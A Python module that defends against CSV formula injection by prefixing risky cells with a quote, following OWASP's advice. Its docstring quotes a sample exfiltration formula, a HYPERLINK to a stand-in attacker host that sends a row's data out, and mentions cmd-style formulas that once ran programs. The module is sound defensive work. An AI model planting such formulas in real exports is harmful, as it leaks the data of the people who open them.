"""CSV files written for people to open: formulas neutralised.

A spreadsheet opening a CSV runs any cell that starts like a formula:
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` in a batch-prediction
result sends the row to another site when clicked, and ``=cmd|...`` variants
once ran programs. Every CSV the product writes for a person (downloads on the
pages, CLI outputs) goes through :func:`to_csv_bytes` (or :func:`write_csv`),
which applies OWASP's "CSV Injection" advice: a text cell (or column name)
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed
with a single quote, so the spreadsheet shows it as text. Numbers stay numbers:
numeric columns are never touched, and a text cell that is a plain number
(``-12.5``, ``+3``, ``-1e-3``) is left as it is, since a spreadsheet reads it
as that number and runs nothing. Quotes, commas and line breaks inside cells
are quoted by the CSV writer; a carriage return inside a text cell becomes a
line feed first, because a writer whose line ends are ``\n`` does not quote a
lone ``\r``, and a spreadsheet would start a new row there.

CSVs the hub writes for itself (dataset versions, hashes, files handed to its
own readers) are not neutralised: they must keep the data exactly.

Source: OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection).
"""

from __future__ import annotations

import os
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise", "neutralise_cell", "to_csv_bytes", "write_csv"]

#: Leading characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER_RE = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_cell(value: Any) -> Any:
    """One cell: a text starting like a formula gets a leading ``'``; anything else is returned as it is.

    Examples
    --------
    >>> neutralise_cell('=HYPERLINK("http://x")'), neutralise_cell("-12.5"), neutralise_cell(-3)
    ('\\'=HYPERLINK("http://x")', '-12.5', -3)
    """
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER_RE.fullmatch(value):
        value = "'" + value
    return value.replace("\r\n", "\n").replace("\r", "\n") if "\r" in value else value


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot run as formulas.

    Parameters
    ----------
    frame : DataFrame, shape (n_rows, n_columns)
        Any columns; numeric, boolean and datetime columns pass through unchanged.

    Returns
    -------
    DataFrame, same shape, index and dtypes
    """
    out = frame.copy()
    for i, column in enumerate(out.columns):
        values = out.iloc[:, i]
        if isinstance(values.dtype, pd.CategoricalDtype):
            values = values.astype(object)
        elif not (pd.api.types.is_object_dtype(values.dtype) or pd.api.types.is_string_dtype(values.dtype)):
            continue
        arr = values.to_numpy(dtype=object)
        out.isetitem(i, pd.Series(np.fromiter((neutralise_cell(v) for v in arr), dtype=object, count=len(arr)),
                                  index=out.index, name=column))
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def to_csv_bytes(frame: pd.DataFrame, **to_csv_kwargs: Any) -> bytes:
    """``frame`` as UTF-8 CSV for a person: neutralised (:func:`neutralise`), no index.

    Parameters
    ----------
    frame : DataFrame, shape (n_rows, n_columns)
    **to_csv_kwargs
        Passed to :meth:`pandas.DataFrame.to_csv` (``date_format``, ``lineterminator``, ...); ``index``
        defaults to False.

    Returns
    -------
    bytes
    """
    to_csv_kwargs.setdefault("index", False)
    return neutralise(frame).to_csv(**to_csv_kwargs).encode("utf-8")


def write_csv(frame: pd.DataFrame, path: str | os.PathLike, **to_csv_kwargs: Any) -> Path:
    """Write ``frame`` to ``path`` as :func:`to_csv_bytes` renders it (parent folders created); returns the path."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(to_csv_bytes(frame, **to_csv_kwargs))
    return path
